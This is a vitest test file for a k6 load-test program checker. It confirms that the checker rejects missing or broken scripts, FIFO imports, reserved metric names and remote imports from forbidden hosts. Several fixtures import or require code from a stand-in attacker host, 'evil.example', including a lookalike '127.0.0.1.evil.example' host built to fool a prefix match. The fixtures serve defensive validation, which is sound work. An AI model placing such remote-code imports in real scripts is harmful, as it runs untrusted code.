import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { toPhases } from '../../scenarios/plan/phase.ts';
import type { Plan } from '../../scenarios/plan/plan.ts';
import type { Target } from '../../scenarios/plan/target.ts';
import { checkPrograms } from './check-programs.ts';
import { sectionSchema } from './program/section.ts';
import { Scans } from './user/scans.ts';

const planDir = mkdtempSync(join(tmpdir(), 'meshproof-test-'));
afterAll(() => rmSync(planDir, { recursive: true, force: true }));
writeFileSync(join(planDir, 'good.ts'), "import http from 'k6/http';\nexport default (): unknown => http.get('/');\n");
writeFileSync(join(planDir, 'broken.js'), '\nexport default () => {\n');
writeFileSync(join(planDir, 'lost.js'), "import './nowhere.js';\n");

const plan = (steadyS = 5) => ({ phases: toPhases({ steady: steadyS }), seed: 1 }) as unknown as Plan;
const check = (program: string, parts: { plan?: Plan; urls?: Record<string, string>; browse?: string[] } = {}) =>
  checkPrograms(
    sectionSchema.parse({ scenarios: { [program]: '5/s' } }),
    {
      plan: parts.plan ?? plan(),
      planDir,
      ...(parts.urls && {
        target: { urls: parts.urls, allow: { load: [], browse: parts.browse ?? [] } } as unknown as Target,
      }),
    },
    new Scans(),
  );

describe('the check of k6 programs', () => {
  it('accepts programs that exist, parse and have an address', async () => {
    await check('./good.ts');
    await check('api');
    await check('inference', { urls: { api: 'http://127.0.0.1:1/v1' } });
  });

  it('refuses too many random arrivals in one k6 scenario, and allows any number of evenly spaced ones', async () => {
    const load = (seconds: number, more: object) => {
      const section = sectionSchema.parse({ scenarios: { './good.ts': { rate: '1000/s', ...more } } });
      return checkPrograms(section, { plan: plan(seconds), planDir }, new Scans());
    };
    await load(60, {});
    await load(20, { arrivals: 'poisson' });
    await expect(load(60, { arrivals: 'poisson' })).rejects.toThrow(/at most 50000 poisson arrivals/);
  });

  it('refuses a program that imports or opens a FIFO, before it is bundled', async () => {
    execFileSync('mkfifo', [join(planDir, 'fifo.js')]);
    writeFileSync(join(planDir, 'imports.js'), "\nimport './fifo.js';\n");
    writeFileSync(join(planDir, 'opens.js'), "const all = open('./fifo.js');\nexport default () => {};");
    await expect(check('./imports.js')).rejects.toMatchObject({ where: { line: 2 } });
    await expect(check('./opens.js')).rejects.toMatchObject({ where: { line: 1 } });
  });

  it.each([
    ['./gone.js', /no such file/],
    ['./broken.js', /k6 cannot load the program: /],
    ['./lost.js', /k6 cannot load the program: Could not resolve/],
  ])('refuses %s', async (program, message) => {
    await expect(check(program)).rejects.toThrow(message);
  });

  it.each([
    ['an import', "// one\nimport 'https://127.0.0.2/x.js';\n", 2],
    ['a require', "\n\nconst x = require('https://evil.example/x.js');\n", 3],
    ['a re-export', "export * from 'HTTPS://evil.example/x.js';\n", 1],
    ['an import by a name that starts like an allowed one', "import 'https://127.0.0.1.evil.example/x.js';\n", 1],
  ])('refuses %s from a forbidden host, and names its line, also in an imported file', async (_, text, line) => {
    writeFileSync(join(planDir, 'remote.js'), text);
    writeFileSync(join(planDir, 'outer.js'), "import './remote.js';\n");
    const urls = { api: 'http://127.0.0.1:1/v1' };
    for (const program of ['./remote.js', './outer.js']) {
      const where = { file: expect.stringMatching(/remote\.js$/), line };
      await expect(check(program, { urls })).rejects.toMatchObject({ where });
    }
  });

  it('leaves a remote import from an allowed host to k6', async () => {
    writeFileSync(join(planDir, 'remote.js'), "import 'https://127.0.0.1/x.js';\nimport 'https://lib.example/y.js';\n");
    await check('./remote.js', { urls: { api: 'http://127.0.0.1:1/v1' }, browse: ['lib.example'] });
  });

  it('refuses a program that imports k6/browser', async () => {
    writeFileSync(
      join(planDir, 'ui.js'),
      "import { browser } from 'k6/browser';\nexport default () => browser.newPage();\n",
    );
    await expect(check('./ui.js')).rejects.toMatchObject({ where: { file: join(planDir, 'ui.js') } });
  });

  it.each([
    'new Trend("http_req_duration", true)',
    'new Trend("http_req_duration_seconds")',
    'new Counter("http_reqs")',
    'new Gauge("http_reqs_total")',
    'new Rate("checks")',
    'new Counter("started_iterations")',
    'new Trend("redirected_call_duration", true)',
    'new Counter("writes_lost")',
  ])('refuses a script that creates a metric under a name of k6 or of meshproof: %s', async (made) => {
    const file = join(planDir, 'forged.js');
    writeFileSync(
      file,
      `import { Counter, Gauge, Rate, Trend } from 'k6/metrics';\nconst m = ${made};\nexport default () => m.add(1);\n`,
    );
    await expect(check('./forged.js')).rejects.toMatchObject({ where: { file } });
  });

  it('refuses a phase that is too short for k6, and a program whose address the target lacks', async () => {
    await expect(check('api', { plan: plan(0.5) })).rejects.toMatchObject({ where: { key: 'phases.steady' } });
    await expect(check('mesh', { urls: { api: 'http://127.0.0.1:1/v1' } })).rejects.toThrow(
      'no address for the program mesh',
    );
  });
});
